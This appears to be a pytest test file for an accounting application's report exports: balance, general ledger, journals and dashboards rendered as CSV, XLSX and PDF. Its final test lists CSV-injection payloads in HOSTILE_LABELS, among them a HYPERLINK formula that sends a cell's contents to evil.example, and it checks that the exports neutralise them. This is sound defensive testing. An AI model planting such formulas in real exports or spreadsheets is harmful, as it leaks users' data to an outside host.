"""Balance filters, grand livre, journals and the exports of every report."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from tests.api.test_closing import entry
from tests.api.test_lettering import ids, keep
from tests.api.test_statements import first_year
from wisebook.db import models

BALANCE = "/api/v1/rapports/balance/"
LEDGER = "/api/v1/rapports/grand-livre/"
JOURNAL = "/api/v1/rapports/journal/"
CENTRAL = "/api/v1/rapports/centralisateur/"


def test_balance_filters_by_range_class_and_unsettled(api):
    first_year(api)
    every = api.get(BALANCE, exercice="2026").json
    codes = [r["compte"] for r in every["lignes"]]
    assert codes == sorted(codes) and "4811" in codes  # 4811 was settled within the year
    assert every["totaux"]["debit"] == every["totaux"]["credit"]
    tiers = api.get(BALANCE, exercice="2026", comptes="40-41").json
    assert [r["compte"] for r in tiers["lignes"]] == ["4011", "4111"]
    assert tiers["totaux"]["solde_debiteur"] == "1180000" and tiers["totaux"]["solde_crediteur"] == "1180000"
    class6 = api.get(BALANCE, exercice="2026", classe="6").json
    assert [r["compte"] for r in class6["lignes"]] == ["6011", "6222", "6611", "6813"]
    unsettled = [r["compte"] for r in api.get(BALANCE, exercice="2026", non_soldes="1").json["lignes"]]
    assert "4811" not in unsettled and "422" not in unsettled and "5211" in unsettled


def test_grand_livre_opens_each_account_then_runs_its_balance(api):
    first_year(api)
    page = api.get(LEDGER, exercice="2026", comptes="5211").json
    rows = page["resultats"]
    assert page["suivant"] is None
    assert rows[0]["libelle"] == "Solde d'ouverture" and rows[0]["solde"] == "0"
    assert [(r["date"], r["journal"], r["debit"], r["credit"], r["solde"]) for r in rows[1:]] == [
        ("2026-01-02", "BQ", "10000000", "0", "10000000"),
        ("2026-02-10", "BQ", "0", "3540000", "6460000"),
        ("2026-04-05", "BQ", "0", "1180000", "5280000"),
        ("2026-07-15", "BQ", "4720000", "0", "10000000"),
        ("2026-12-31", "BQ", "0", "1200000", "8800000"),
        ("2026-12-31", "BQ", "0", "1500000", "7300000"),
    ]
    assert all(r["numero"].startswith("BQ-2026-") for r in rows[1:])


def test_grand_livre_opening_of_a_range_holds_the_earlier_months(api):
    first_year(api)
    rows = api.get(LEDGER, exercice="2026", comptes="5211", du="2026-07-01").json["resultats"]
    assert rows[0]["solde"] == "5280000" and rows[0]["date"] == "2026-07-01"
    assert rows[-1]["solde"] == "7300000"


def test_grand_livre_pages_follow_each_other_across_accounts(api):
    first_year(api)
    whole = api.get(LEDGER, exercice="2026", limite="1000").json["resultats"]
    pages, cursor = [], None
    while True:
        params = {"exercice": "2026", "limite": "4"}
        if cursor:
            params["apres"] = cursor
        page = api.get(LEDGER, **params).json
        assert len(page["resultats"]) <= 4
        pages.extend(page["resultats"])
        cursor = page["suivant"]
        if not cursor:
            break
    assert pages == whole
    accounts = [r["compte"] for r in whole]
    assert accounts == sorted(accounts)
    # The last row of each account carries the account's closing balance of the balance report.
    closing = {r["compte"]: r["solde"] for r in whole}
    balance = {
        r["compte"]: str(int(r["solde_debiteur"]) - int(r["solde_crediteur"]))
        for r in api.get(BALANCE, exercice="2026").json["lignes"]
    }
    assert closing == balance


def test_grand_livre_shows_the_piece_the_tiers_and_the_lettrage_code(api):
    keep(api)  # invoices and payments of C001 and C002 on 4111
    body = entry("2026-04-01", "Facture FA-4", [("4111", 10_000, 0, "C003"), ("7011", 0, 10_000, None)])
    body["piece"] = "FA-4"
    api.post("/api/v1/ecritures/", body, status=201)
    lines = ids(api)
    api.post("/api/v1/lettrages/", {"lignes": [lines["Facture FA-1"], lines["Règlement FA-1"]]}, status=201)
    rows = api.get(LEDGER, exercice="2026", comptes="4111").json["resultats"]
    shown = [(r["libelle"], r["piece"], r["tiers"], r["lettrage"]) for r in rows]
    assert {r["tiers"]: r["nom_tiers"] for r in rows} == {
        None: None,
        "C001": "Client Kouassi",
        "C002": "Client Bamba",
        "C003": "Client Traoré",
    }
    assert shown[0] == ("Solde d'ouverture", None, None, None)
    assert shown[1:] == [
        ("Facture FA-1", None, "C001", "A"),
        ("Facture FA-2", None, "C001", None),
        ("Règlement FA-1", None, "C001", "A"),
        ("Facture FA-3", None, "C002", None),
        ("Acompte FA-3", None, "C002", None),
        ("Facture FA-4", "FA-4", "C003", None),
    ]
    header, *data = _csv(api.get(LEDGER, exercice="2026", comptes="4111", format="csv"))
    assert header == [
        "Compte", "Libellé du compte", "Date", "Journal", "Numéro", "Pièce", "Libellé", "Tiers",
        "Débit", "Crédit", "Solde", "Lettrage",
    ]  # fmt: skip
    assert [(r[5], r[6], r[7], r[11]) for r in data] == [
        ("", "Solde d'ouverture", "", ""),
        ("", "Facture FA-1", "C001", "A"),
        ("", "Facture FA-2", "C001", ""),
        ("", "Règlement FA-1", "C001", "A"),
        ("", "Facture FA-3", "C002", ""),
        ("", "Acompte FA-3", "C002", ""),
        ("FA-4", "Facture FA-4", "C003", ""),
    ]
    sheet = load_workbook(
        io.BytesIO(api.get(LEDGER, exercice="2026", comptes="4111", format="xlsx").body), read_only=True
    ).active
    last = list(sheet.iter_rows(values_only=True))[-1]
    assert (last[5], last[7], last[10]) == ("FA-4", "C003", 205_000)


def test_journal_report_and_centralisateur(api):
    first_year(api)
    sales = api.get(JOURNAL, exercice="2026", journal="VTE").json
    assert [(ln["compte"], ln["debit"], ln["credit"]) for ln in sales["lignes"]] == [
        ("4111", "5900000", "0"),
        ("7011", "0", "5000000"),
        ("4431", "0", "900000"),
    ]
    assert sales["totaux"] == {"debit": "5900000", "credit": "5900000"}
    central = api.get(CENTRAL, exercice="2026").json
    months = {(r["journal"], r["mois"]): (r["debit"], r["credit"]) for r in central["lignes"]}
    assert months[("VTE", "2026-06")] == ("5900000", "5900000")
    assert months[("BQ", "2026-12")] == ("2700000", "2700000")
    assert central["totaux"]["debit"] == central["totaux"]["credit"]
    every = api.get(JOURNAL, exercice="2026").json
    assert every["totaux"]["debit"] == central["totaux"]["debit"]


def _csv(response):
    assert response.content_type == "text/csv"
    assert response.body.startswith(b"\xef\xbb\xbf")  # Excel reads the accents right with a BOM
    return list(csv.reader(io.StringIO(response.body.decode("utf-8-sig")), delimiter=";"))


def test_balance_and_grand_livre_export_to_csv_and_xlsx(api):
    first_year(api)
    rows = _csv(api.get(BALANCE, exercice="2026", format="csv"))
    assert rows[0][:3] == ["Compte", "Libellé", "Ouverture débit"]
    assert rows[-1][1] == "TOTAUX" and rows[-1][4] == rows[-1][5]
    response = api.get(BALANCE, exercice="2026", format="xlsx")
    assert "attachment" in response.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.body), read_only=True).active
    values = list(sheet.iter_rows(values_only=True))
    bank = next(v for v in values if v and v[0] == "5211")
    assert bank[4] == 14_720_000 and isinstance(bank[4], int)  # a number, exact, not text
    ledger = _csv(api.get(LEDGER, exercice="2026", comptes="5211", format="csv"))
    assert ledger[1][2] == "01/01/2026" and ledger[-1][10] == "7300000"


def _pdf_pages(response) -> list[str]:
    assert response.content_type == "application/pdf" and response.body.startswith(b"%PDF")
    return [re.sub(r"\s+", " ", page.extract_text()) for page in PdfReader(io.BytesIO(response.body)).pages]


def _identified(session, books) -> None:
    session.add(
        models.CompanyIdentifiers(
            company_id=books.company_id, rccm="CI-ABJ-2026-B-12345", tax_number="2612345 A"
        )
    )
    session.commit()


def test_report_files_open_on_a_title_block_and_say_what_they_are(api, session, books):
    first_year(api)
    _identified(session, books)
    response = api.get(LEDGER, exercice="2026", comptes="5211", du="2026-07-01", format="xlsx")
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="grand-livre-societe-test-sarl-2026-du-20260701-au-20261231.xlsx"'
    )
    sheet = load_workbook(io.BytesIO(response.body)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert [r[0] for r in rows[:5]] == [
        "Société Test SARL",
        "RCCM CI-ABJ-2026-B-12345 · NCC 2612345 A",
        "Grand livre",
        "Exercice 2026, du 01/07/2026 au 31/12/2026 · montants en FCFA",
        None,
    ]
    assert rows[5][:3] == ("Compte", "Libellé du compte", "Date")
    assert sheet.freeze_panes == "A7" and sheet.print_title_rows == "$6:$6"  # the header stays
    assert rows[-1][10] == 7_300_000
    whole = api.get(BALANCE, exercice="2026", format="csv")
    assert 'filename="balance-societe-test-sarl-2026.csv"' in whole.headers["Content-Disposition"]
    assert whole.body.decode("utf-8-sig").startswith("Compte;Libellé;")  # a CSV stays data alone
    sales = api.get(JOURNAL, exercice="2026", journal="vte", format="xlsx")
    assert 'filename="journal-vte-societe-test-sarl-2026.xlsx"' in sales.headers["Content-Disposition"]


def test_balance_grand_livre_and_journals_print_to_pdf_with_their_headings_on_every_page(api, session, books):
    first_year(api)
    _identified(session, books)
    for day in range(1, 29):  # enough lines for the bank's grand livre to run onto a second page
        for label in ("Encaissement comptant", "Remise de chèques"):
            api.post(
                "/api/v1/ecritures/",
                {
                    "journal": "BQ",
                    "date_comptable": f"2026-08-{day:02d}",
                    "libelle": label,
                    "piece": f"RC-{day}",
                    "lignes": [{"compte": "5211", "debit": "1000"}, {"compte": "7011", "credit": "1000"}],
                    "valider": True,
                },
                status=201,
            )
    pages = _pdf_pages(api.get(LEDGER, exercice="2026", comptes="5211", format="pdf"))
    assert len(pages) >= 2
    for page in pages:
        assert "Société Test SARL" in page and "RCCM CI-ABJ-2026-B-12345 · NCC 2612345 A" in page
        assert "Grand livre" in page and "Date Journal Numéro Pièce Libellé Tiers Débit Crédit Solde" in page
    shown = " ".join(pages)
    assert "5211 Banques en monnaie nationale" in shown
    assert "Solde d'ouverture" in shown and "RC-28" in shown
    assert "Total du compte 14 776 000 7 420 000 7 356 000 D" in shown  # 56 receipts of 1 000 on top
    assert f"1/{len(pages)}" in pages[0]
    balance = " ".join(_pdf_pages(api.get(BALANCE, exercice="2026", format="pdf")))
    assert "Balance générale" in balance and "Total classe 5" in balance
    assert "5211" in balance and "TOTAUX" in balance
    journal = " ".join(_pdf_pages(api.get(JOURNAL, exercice="2026", journal="VTE", format="pdf")))
    assert "Journal VTE" in journal and "TOTAUX 5 900 000 5 900 000" in journal
    central = " ".join(_pdf_pages(api.get(CENTRAL, exercice="2026", format="pdf")))
    assert "Journal centralisateur" in central


def test_report_files_speak_the_reader_s_language(api, books):
    first_year(api)
    english = {"Accept-Language": "en"}
    rows = _csv(api.testapp.get(BALANCE, {"exercice": "2026", "format": "csv"}, headers=api.headers(english)))
    assert rows[0][:3] == ["Account", "Label", "Opening debit"] and rows[-1][1] == "TOTALS"
    pdf = api.testapp.get(
        "/api/v1/rapports/bilan/", {"exercice": "2026", "format": "pdf"}, headers=api.headers(english)
    )
    shown = " ".join(_pdf_pages(pdf))
    assert "BALANCE SHEET AT 31/12/2026" in shown and "Gross" in shown
    assert "BZ TOTAL GENERAL 11,480,000 600,000 10,880,000 0" in shown  # the reader's grouping


def test_amounts_with_cents_keep_them_exactly(api, session, books):
    company = session.get(models.Company, books.company_id)
    company.currency = "EUR"
    session.commit()
    api.post(
        "/api/v1/ecritures/",
        {
            "journal": "VTE",
            "date_comptable": "2026-03-01",
            "libelle": "Vente",
            "lignes": [
                {"compte": "4111", "debit": "1234.56"},
                {"compte": "7011", "credit": "1234.56"},
            ],
            "valider": True,
        },
        status=201,
    )
    rows = _csv(api.get(BALANCE, exercice="2026", format="csv"))
    assert next(r for r in rows if r[0] == "4111")[4] == "1234,56"
    sheet = load_workbook(io.BytesIO(api.get(BALANCE, exercice="2026", format="xlsx").body)).active
    cell = next(row[4] for row in sheet.iter_rows() if row[0].value == "4111")
    assert Decimal(str(cell.value)) == Decimal("1234.56") and cell.number_format == "#,##0.00"


def test_statements_export_to_pdf_csv_and_xlsx(api):
    first_year(api)
    pdf = api.get("/api/v1/rapports/bilan/", exercice="2026", format="pdf")
    assert pdf.content_type == "application/pdf" and pdf.body.startswith(b"%PDF")
    assert b"/Count 1" in pdf.body or b"/Count 2" in pdf.body
    shown = " ".join(
        re.sub(r"\s+", " ", page.extract_text()) for page in PdfReader(io.BytesIO(pdf.body)).pages
    )
    assert "BILAN AU 31/12/2026" in shown and "Société Test SARL" in shown
    assert "BZ TOTAL GENERAL 11 480 000 600 000 10 880 000 0" in shown  # the XLSX's figures, grouped
    assert "BI Clients 7 1 180 000 0 1 180 000 0" in shown  # with the Note column
    rows = _csv(api.get("/api/v1/rapports/compte-de-resultat/", exercice="2026", format="csv"))
    assert rows[0][:4] == ["Réf", "Libellé", "Note", "Section"]
    assert ["XI", "RESULTAT NET", "", "resultat", "-300000", "0"] in rows
    rl = next(r for r in rows if r[0] == "RL")
    assert rl[:3] == ["RL", "Dotations aux amortissements, aux provisions et dépréciations", "3C&28"]
    sheet = load_workbook(
        io.BytesIO(api.get("/api/v1/rapports/bilan/", exercice="2026", format="xlsx").body)
    ).active
    bz = next(r for r in sheet.iter_rows(values_only=True) if r[0] == "BZ")
    assert bz[4:] == (11_480_000, 600_000, 10_880_000, 0)


@pytest.mark.parametrize(
    ("url", "params", "field"),
    [
        (BALANCE, {"format": "docx"}, "format"),
        (BALANCE, {"comptes": "41-40"}, "comptes"),
        (BALANCE, {"comptes": "abc"}, "comptes"),
        (BALANCE, {"comptes": "1-2-3"}, "comptes"),
        (BALANCE, {"classe": "12"}, "classe"),
        (BALANCE, {"non_soldes": "peut-être"}, "non_soldes"),
        (BALANCE, {"du": "2026-05-01", "au": "2026-04-01"}, "du"),
        (BALANCE, {"au": "2027-01-31"}, "au"),
        (LEDGER, {"apres": "pas-un-curseur"}, "apres"),
        (LEDGER, {"limite": "0"}, "limite"),
        (LEDGER, {"comptes": "5-4"}, "comptes"),
        (JOURNAL, {"journal": "ZZZ"}, "journal"),
        (CENTRAL, {"format": "html"}, "format"),
    ],
)
def test_bad_report_parameters_are_problems(api, url, params, field):
    response = api.get(url, status=422, exercice="2026", **params)
    assert response.content_type == "application/problem+json"
    assert [e["champ"] for e in response.json["erreurs"]] == [field]


def test_an_unknown_exercice_is_a_404_for_every_report(api):
    for url in (BALANCE, LEDGER, JOURNAL, CENTRAL):
        response = api.get(url, status=404, exercice="1999")
        assert response.content_type == "application/problem+json"


def test_dashboard_month_by_month_for_both_exercices(api):
    from tests.api.test_statements import second_year

    first_year(api)
    second_year(api)
    board = api.get("/api/v1/dashboard/", exercice="2027").json
    assert board["devise"] == "XOF"
    current, previous = board["exercices"]
    assert (current["exercice"], previous["exercice"]) == ("2027", "2026")
    assert len(current["mois"]) == 12 and current["mois"][0]["mois"] == "2027-01"
    assert current["annee"] == {
        "tresorerie": "8750000",
        "creances_clients": "1180000",
        "dettes_fournisseurs": "0",
        "chiffre_affaires": "6000000",
        "charges": "5700000",  # 2 500 000 − 500 000 + 1 200 000 + 1 800 000 + 100 000 + 600 000
        "resultat": "300000",
    }
    assert previous["annee"]["resultat"] == "-300000" and previous["annee"]["charges"] == "5300000"
    june = previous["mois"][5]
    assert (june["mois"], june["chiffre_affaires"], june["creances_clients"]) == (
        "2026-06",
        "5000000",
        "5900000",
    )
    assert current["mois"][0]["tresorerie"] == "9300000"  # 7 300 000 carried + the loan
    assert sum(int(m["resultat"]) for m in current["mois"]) == 300_000


@pytest.mark.postgresql
def test_postgresql_copy_writes_the_same_csv_as_the_python_writer(api, session, books):
    """CSV exports on PostgreSQL come from COPY; they must match the portable writer byte for byte."""
    from wisebook.services.books import years
    from wisebook.services.reports import ledgers as reports
    from wisebook.web import exports
    from wisebook.web.api.reports import JOURNAL_COLUMNS, LEDGER_COLUMNS

    first_year(api)
    company = session.get(models.Company, books.company_id)
    company.currency = "EUR"  # cents, to compare the decimal comma too
    session.commit()
    api.post(
        "/api/v1/ecritures/",
        {
            "journal": "VTE",
            "date_comptable": "2026-03-01",
            "libelle": 'Vente "spéciale"; avec séparateur',
            "lignes": [{"compte": "4111", "debit": "1234.05"}, {"compte": "7011", "credit": "1234.05"}],
            "valider": True,
        },
        status=201,
    )
    fy = years.get_fiscal_year(session, books.company_id, "2026")
    ledger = reports.general_ledger_for_copy(session, books.company_id, fy, None, None, None)
    copied = exports.copy_csv(session, "gl", LEDGER_COLUMNS, ledger, "EUR").body
    written = exports.tabular(
        "csv",
        "gl",
        "GL",
        LEDGER_COLUMNS,
        (
            r[: len(LEDGER_COLUMNS)]
            for r in reports.iter_general_ledger(session, books.company_id, fy, None, None, None)
        ),
        "EUR",
    ).body
    assert copied.splitlines()[:3] == written.splitlines()[:3]
    assert copied == written
    journal = reports.journal_for_copy(books.company_id, fy, None, None, None)
    copied = exports.copy_csv(session, "j", JOURNAL_COLUMNS, journal, "EUR").body
    written = exports.tabular(
        "csv",
        "j",
        "J",
        JOURNAL_COLUMNS,
        reports.iter_journal(session, books.company_id, fy, None, None, None),
        "EUR",
    ).body
    assert copied == written
    assert b'"Vente ""sp\xc3\xa9ciale""; avec s\xc3\xa9parateur"' in copied


HOSTILE_LABELS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcache",
    "\rretour",
)


def hostile_entry(api) -> None:
    """A posted entry whose labels start as spreadsheet formulas do."""
    lines = []
    for n, label in enumerate(HOSTILE_LABELS[1:], start=1):
        lines.append({"compte": "4111", "libelle": label, "debit": str(100 * n)})
    lines.append(
        {
            "compte": "7011",
            "libelle": HOSTILE_LABELS[0],
            "credit": str(100 * sum(range(1, len(HOSTILE_LABELS)))),
        }
    )
    body = {"journal": "VTE", "date_comptable": "2026-02-01", "libelle": HOSTILE_LABELS[0], "lignes": lines}
    api.post("/api/v1/ecritures/", {**body, "valider": True}, status=201)


def test_exports_never_keep_a_formula_live(api):
    """OWASP's CSV injection: every CSV path (the COPY one too) prefixes a cell that starts
    like a formula with an apostrophe; XLSX keeps the text, typed as text; the FEC keeps it."""
    hostile_entry(api)
    for url in (LEDGER, JOURNAL):
        text = api.get(url, exercice="2026", format="csv").body.decode("utf-8-sig")
        assert (
            "'\rretour" in text and ";\rretour" not in text and '"\rretour' not in text
        )  # csv.reader splits at CR
        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]
        for label in HOSTILE_LABELS[:5]:
            assert label not in cells, (url, label)  # never as it was typed
            assert "'" + label in cells, (url, label)  # but there, defused
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), url
        book = load_workbook(io.BytesIO(api.get(url, exercice="2026", format="xlsx").body))
        sheet = book.active
        typed = {c.value: c.data_type for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
        for label in HOSTILE_LABELS[:4]:  # openpyxl reads control characters back escaped
            assert typed.get(label) == "s", (url, label)  # the text itself, a string cell
        assert "f" not in {c.data_type for row in sheet.iter_rows() for c in row}
    fec = api.get("/api/v1/exercices/2026/fec/").body.decode("latin-1")
    assert HOSTILE_LABELS[0] in fec and "'" + HOSTILE_LABELS[0] not in fec  # the format keeps it
